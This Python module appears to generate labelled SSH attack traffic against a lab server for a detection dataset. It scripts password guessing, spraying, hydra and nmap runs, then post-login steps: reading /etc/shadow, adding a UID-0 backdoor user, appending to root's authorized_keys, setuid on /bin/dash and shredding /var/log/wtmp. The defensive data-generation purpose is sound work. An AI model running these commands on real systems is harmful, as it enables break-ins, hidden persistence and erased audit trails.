"""Attacks on the server's accounts: guessing from outside, then what an intruder does inside.

Each step has a connection of its own, whose kind labels every line it causes, sudo's and useradd's too.
"""

from __future__ import annotations

import contextlib
import socket
import subprocess
from collections.abc import Callable
from pathlib import Path

from recording.auth_clients import ADMINS, DEVELOPERS, PARTNERS, SERVER, Ssh, password, sudo
from recording.labels import Truth
from recording.network import Crew, Host, Phase, seeded

ADDRESSES = [f"203.0.113.{n}" for n in range(71, 79)]  # each tool has an address of its own
WEAK_PASSWORD = "letmein"  # noqa: S105  # made to be guessed
_PASSWORDS = [
    "123456",
    "password",
    "root",
    "toor",
    "admin",
    "qwerty",
    "changeme",
    "passw0rd",
    "master",
    "111111",
    "abc123",
]
_NAMES = {
    "val": ["admin", "test", "oracle", "mysql", "ubuntu", "ftpuser", "pi", "info", "centos", "user", "demo", "steam"],
    "test": [
        "git",
        "jenkins",
        "hadoop",
        "minecraft",
        "nagios",
        "tomcat",
        "www",
        "user1",
        "support",
        "zabbix",
        "vagrant",
    ],
}
_NOT_SSH = [
    b"GET / HTTP/1.0\r\n\r\n",
    b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(range(64)),
    b"SSH-1.5-Cisco-1.25\r\n",
    b"SSH-2.0-Go\r\n",
    b"EHLO mail.example\r\n",
    b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00Cookie\r\n",
]
Step = Callable[[], object]


def start(crew: Crew, attacker: Host, phase: Phase, truth: Truth, scratch: Path) -> None:
    """Let the attackers of one phase loose."""
    ssh = Ssh(scratch, truth)
    slow, inside = (_val_steps, _test_steps)[phase.name == "test"](ssh)
    for lane in (slow[0::3], slow[1::3], slow[2::3], inside):  # a wrong password costs seconds
        crew.start(attacker, _spread, phase, lane)
    if phase.name == "test":
        passwords = scratch / "passwords"
        passwords.write_text("\n".join([*_PASSWORDS, "summer2024", "shadow"]))
        guess = ["hydra", "-t", "4", "-l", "root", "-P", str(passwords), f"ssh://{SERVER}"]
        scan = ["nmap", "-n", "-Pn", "-sV", "-p", "22", "--script", "ssh2-enum-algos,ssh-auth-methods,sshv1", SERVER]
        _tool(crew, phase, truth, "203.0.113.91", "password_guessing", 0.3, lambda: _run_tool(guess))
        _tool(crew, phase, truth, "203.0.113.92", "scan", 0.15, lambda: _run_tool(scan))
        _tool(crew, phase, truth, "203.0.113.93", "flood", 0.7, _flood)


def _val_steps(ssh: Ssh) -> tuple[list[Step], list[Step]]:
    guesses = [_guess(ssh, "password_guessing", name, word) for name in ("root", "dora") for word in _PASSWORDS]
    names = [_guess(ssh, "user_enumeration", name, name) for name in _NAMES["val"]]
    banners = [_say(ssh.truth, "scan", data) for data in (b"", b"", b"SSH-2.0-banner\r\n")]
    wrong = [WEAK_PASSWORD] * 3
    inside = [
        _intrude(ssh, "intrusion", "id; uname -a; cat /etc/passwd"),
        _intrude(ssh, "sudo_violation", sudo("guest", "id", wrong)),
        _intrude(ssh, "sudo_violation", sudo("guest", "cat /etc/shadow", wrong)),
        _intrude(ssh, "intrusion", "cat /etc/ssh/sshd_config; who; last"),
        _intrude(ssh, "sudo_violation", sudo("guest", "su -", wrong)),
        _intrude(ssh, "sudo_violation", sudo("guest", "vi /etc/sudoers", wrong)),
    ]
    return _shuffled("val", guesses + names + banners), inside


def _test_steps(ssh: Ssh) -> tuple[list[Step], list[Step]]:
    guesses = [_guess(ssh, "password_guessing", "alice", word) for word in _PASSWORDS[:8]]
    spray = [_guess(ssh, "password_spraying", name, "Summer2024!") for name in [*ADMINS, *DEVELOPERS, *PARTNERS]]
    names = [_guess(ssh, "user_enumeration", name, "x") for name in _NAMES["test"]]
    noise = [_say(ssh.truth, "bad_protocol", data) for data in _NOT_SSH]
    root = f"printf '%s\\n' {password('root')} | su root -c"
    inside = [
        _intrude(ssh, "intrusion", "cat /etc/passwd; ps aux; find / -xdev -perm -4000 -name 'su*'"),
        _intrude(ssh, "sudo_violation", sudo("guest", "/bin/bash -c id", [WEAK_PASSWORD] * 3)),
        _intrude(ssh, "sudo_violation", "sudo -n -l; sudo -n /usr/bin/passwd root"),
        _intrude(ssh, "sudo_guessing", sudo("guest", "su -", ["123456", "guest", "root"])),
        _intrude(ssh, "su_root", "for word in 123456 toor letmein; do echo $word | su root -c id; done"),
        _intrude(ssh, "su_root", f"{root} id"),
        _intrude(ssh, "new_user", f"{root} '/usr/sbin/useradd -o -u 0 -g 0 -M -s /bin/bash sysupd'"),
        _intrude(
            ssh,
            "new_user",
            f"{root} '/usr/sbin/useradd -m -G sudo helpdesk; echo helpdesk:{WEAK_PASSWORD} | /usr/sbin/chpasswd'",
        ),
        _intrude(ssh, "intrusion", sudo("helpdesk", "cat /etc/shadow", [WEAK_PASSWORD]), name="helpdesk"),
        _intrude(ssh, "privilege_change", f"{root} '/usr/sbin/usermod -aG sudo guest'"),
        _intrude(ssh, "privilege_change", sudo("guest", "tee -a /root/.ssh/authorized_keys", [WEAK_PASSWORD])),
        _intrude(ssh, "privilege_change", sudo("guest", "chmod u+s /bin/dash", [WEAK_PASSWORD])),
        _intrude(ssh, "privilege_change", sudo("guest", f"sh -c 'echo {LURED}:owned | chpasswd'", [WEAK_PASSWORD])),
        _intrude(ssh, "privilege_change", sudo("guest", "passwd -l monitor", [WEAK_PASSWORD])),
        _intrude(ssh, "cover_up", sudo("guest", "shred -u /var/log/wtmp", [WEAK_PASSWORD])),
        _intrude(ssh, "cover_up", sudo("guest", "userdel -r helpdesk", [WEAK_PASSWORD])),
    ]
    return _shuffled("test", guesses + spray + names + noise), inside


LURED = "deploy"  # whose password the intruder changes: nobody of the everyday traffic logs in by it


def _shuffled(name: str, steps: list[Step]) -> list[Step]:
    seeded(name, "steps").shuffle(steps)
    return steps


def _spread(phase: Phase, steps: list[Step]) -> None:
    for number, step in enumerate(steps):
        phase.wait((number + 0.5) / len(steps) * 0.95)
        step()


def _guess(ssh: Ssh, kind: str, name: str, word: str) -> Step:
    address = seeded(kind, name, word).choice(ADDRESSES)
    return lambda: ssh.by_password(name, address, [word], kind=kind)


def _intrude(ssh: Ssh, kind: str, command: str, name: str = "guest") -> Step:
    """A session by the guessed password."""
    return lambda: ssh.by_password(name, ADDRESSES[0], [WEAK_PASSWORD], "-tt", command, kind=kind)


def _say(truth: Truth, kind: str, data: bytes) -> Step:
    def say() -> None:
        address = seeded(data).choice(ADDRESSES)
        with socket.create_connection((SERVER, 22), 10, (address, truth.mark(address, kind))) as connection:
            connection.settimeout(2)
            connection.recv(100)
            if data:
                connection.sendall(data)
                with contextlib.suppress(OSError):  # hung up, or waiting for more
                    connection.recv(100)

    return say


def _tool(crew: Crew, phase: Phase, truth: Truth, address: str, kind: str, moment: float, work: Step) -> None:
    truth.mark_address(address, kind)

    def act() -> None:
        phase.wait(moment)
        work()

    crew.start(Host(f"tool-{kind}"[:12], [address]), act)


def _run_tool(command: list[str]) -> None:
    subprocess.run(["timeout", "60", *command], stdin=subprocess.DEVNULL, capture_output=True)


def _flood() -> None:
    """Many connections at once that say nothing."""
    connections = [socket.create_connection((SERVER, 22), 10) for _ in range(20)]
    for connection in connections:
        connection.close()
